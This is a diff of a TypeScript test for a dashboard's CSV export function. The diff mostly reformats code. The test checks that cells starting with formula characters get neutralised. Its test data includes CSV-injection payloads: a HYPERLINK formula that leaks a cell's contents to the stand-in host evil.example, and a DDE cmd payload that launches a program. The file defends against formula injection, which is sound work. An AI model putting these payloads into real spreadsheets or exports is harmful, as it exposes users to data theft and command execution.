@@ -6,20 +6,19 @@ import Papa from "papaparse";
 import { toCsv } from "../../src/dashboard/ui/csv.ts";
 
 const cells = async (values: (string | number)[]) => {
-  const text = await toCsv(["v"], values.map((v) => [v]));
-  return Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { delimiter: ";" }).data.slice(1).filter((r) => r.length === 1 && r[0] !== "").map((r) => r[0]);
+  const text = await toCsv(
+    ["v"],
+    values.map((v) => [v]),
+  );
+  return Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { delimiter: ";" })
+    .data.slice(1)
+    .filter((r) => r.length === 1 && r[0] !== "")
+    .map((r) => r[0]);
 };
 
 describe("toCsv", () => {
   it("neutralises = + - @ tab and carriage return at the start of a cell, across line breaks", async () => {
-    const dangerous = [
-      '=HYPERLINK("https://evil.example/?leak="&C2,"Voir le dossier")\n',
-      "@SUM(1+1)*cmd|' /C calc'!A0\n",
-      "+33 1\nsuite",
-      "-2+3\r\n",
-      "\t=1+1\n",
-      "\r=1+1",
-    ];
+    const dangerous = ['=HYPERLINK("https://evil.example/?leak="&C2,"Voir le dossier")\n', "@SUM(1+1)*cmd|' /C calc'!A0\n", "+33 1\nsuite", "-2+3\r\n", "\t=1+1\n", "\r=1+1"];
     expect(await cells(dangerous)).toEqual(dangerous.map((v) => `'${v}`));
   });
 
